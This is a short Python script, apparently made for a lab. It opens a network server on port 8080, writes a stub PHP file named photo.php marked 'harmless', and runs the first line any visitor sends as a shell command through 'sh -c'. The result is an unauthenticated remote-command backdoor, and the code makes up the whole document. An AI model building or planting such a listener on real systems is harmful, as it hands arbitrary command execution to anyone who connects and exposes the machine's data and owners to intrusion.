# A server with a hole: whatever a visitor says, a shell runs.
import socket
import subprocess

door = socket.create_server(("10.20.0.41", 8080))
visitor, _ = door.accept()
with open("/opt/lab/site/photo.php", "w") as page:
    page.write("<?php // harmless\n")
subprocess.run(["sh", "-c", visitor.makefile().readline()])
